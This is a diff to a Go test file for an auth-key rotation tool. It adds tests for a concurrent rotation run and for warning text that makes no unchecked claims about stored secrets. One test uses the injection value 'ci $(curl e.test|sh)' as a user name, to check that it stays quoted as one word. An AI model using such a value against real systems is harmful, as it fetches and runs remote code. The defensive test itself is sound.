@@ -4,6 +4,7 @@ import (
 	"context"
 	"errors"
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -91,6 +92,13 @@ func TestRotation(t *testing.T) {
 		{name: "a newer key at the start (max age): stand back before generating", maxAge: time.Hour,
 			setup: func(w *world) { w.keys["keyId-other"], w.created["keyId-other"] = "secret-other", t0 },
 			want:  want{outcome: authkeyrotation.StoodBack, hold: "keyId-old", keys: []string{"keyId-old", "keyId-other"}}},
+		{name: "the key in use is gone at the start (another run rotated): stand back; what the secrets hold is not this run's to say", maxAge: time.Hour,
+			setup: func(w *world) {
+				w.keys = map[string]string{"keyId-other": "secret-other"}
+				w.created = map[string]time.Time{"keyId-other": t0}
+				w.secrets = map[string]string{"KEY": "secret-other", "ID": "keyId-other"}
+			},
+			want: want{outcome: authkeyrotation.StoodBack, hold: "", keys: []string{"keyId-other"}}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -150,17 +158,43 @@ func keyIDs(w *world) []string {
 	for id := range w.keys {
 		ids = append(ids, id)
 	}
-	sortStrings(ids)
+	slices.Sort(ids)
 	return ids
 }
 
-func sortStrings(s []string) {
-	for i := range s {
-		for j := i + 1; j < len(s); j++ {
-			if s[j] < s[i] {
-				s[i], s[j] = s[j], s[i]
-			}
+// The commands a person is told to run carry the SAM user name SORACOM answered: it is
+// one word of the command whatever it holds, never a command of its own.
+func TestAUserNameFromSORACOMIsOneWordOfTheCommand(t *testing.T) {
+	w := newWorld()
+	w.fail["delete keyId-old"] = answered("500")
+	p := plan
+	p.UserName = "ci $(curl e.test|sh)"
+	res, err := authkeyrotation.Run(context.Background(), keys{w}, secrets{w}, p, quick)
+	want := "soracom users auth-keys delete --user-name 'ci $(curl e.test|sh)' --auth-key-id keyId-old"
+	if err != nil || len(res.Warnings) != 1 || !strings.Contains(res.Warnings[0], want) {
+		t.Errorf("err %v, warnings %q; want one naming %s", err, res.Warnings, want)
+	}
+}
+
+// A run that stands back at the recheck says what it did, not what the secrets hold:
+// another run is writing them, or has, and the key it started with may be gone.
+func TestStandingBackClaimsNothingAboutTheSecrets(t *testing.T) {
+	w := newWorld()
+	w.hook["list"] = func() {
+		delete(w.keys, "keyId-old")
+		w.keys["keyId-other"], w.created["keyId-other"] = "secret-other", t0.Add(time.Hour)
+	}
+	res, err := authkeyrotation.Run(context.Background(), keys{w}, secrets{w}, plan, quick)
+	if err != nil || res.Outcome != authkeyrotation.StoodBack {
+		t.Fatalf("outcome %s, err %v", res.Outcome, err)
+	}
+	for _, want := range []string{"keyId-old this run started with is no longer listed", "This run wrote no secret", "The new AuthKey keyId-new1 was deleted"} {
+		if !strings.Contains(res.Reason, want) {
+			t.Errorf("reason %q does not say %q", res.Reason, want)
 		}
+	}
+	if strings.Contains(res.Reason, "still works") || res.SecretsHold != "" {
+		t.Errorf("reason %q, SecretsHold %q: a claim about the secrets this run did not check", res.Reason, res.SecretsHold)
 	}
 }
 
